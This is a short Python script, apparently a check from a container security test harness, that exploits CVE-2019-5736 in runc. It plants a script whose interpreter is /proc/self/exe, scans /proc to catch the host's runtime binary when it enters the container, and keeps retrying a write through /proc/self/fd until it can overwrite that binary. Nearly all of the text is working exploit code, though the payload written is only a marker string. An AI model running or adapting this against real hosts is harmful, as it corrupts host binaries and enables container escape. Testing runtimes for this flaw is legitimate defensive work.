# CVE-2019-5736: the program of the host that enters the sandbox is caught while it stands in for a script that names
# /proc/self/exe as its interpreter, and is written to once nobody executes it any more.
deadline = time.monotonic() + 10


def append(link):
    while time.monotonic() < deadline:
        try:
            file = os.open(link, os.O_WRONLY | os.O_APPEND)
        except OSError as error:
            if error.errno == errno.ETXTBSY:
                continue
            raise
        os.write(file, b"overwritten")
        return f"wrote to {os.readlink(link)}"
    raise Refused("it stays in use")


def catch_and_overwrite():
    with open("/tmp/entry", "w") as script:
        script.write("#!/proc/self/exe\n")
    os.chmod("/tmp/entry", 0o755)
    failures = {}
    while time.monotonic() < deadline:
        # The newest first: it is there for a moment only.
        for process in sorted(map(int, filter(str.isdigit, os.listdir("/proc"))), reverse=True):
            link = f"/proc/{process}/exe"
            try:
                if process == os.getpid() or not is_entry(os.readlink(link)):
                    continue
                file = os.open(link, os.O_RDONLY)
            except OSError as error:
                failures[str(error.strerror)] = link
                continue
            return append(f"/proc/self/fd/{file}")
    raise Refused(f"no program of the host was caught: {failures}")


def is_entry(target):
    return any(word in target for word in setting("ENTRY").split())


attempt(catch_and_overwrite)
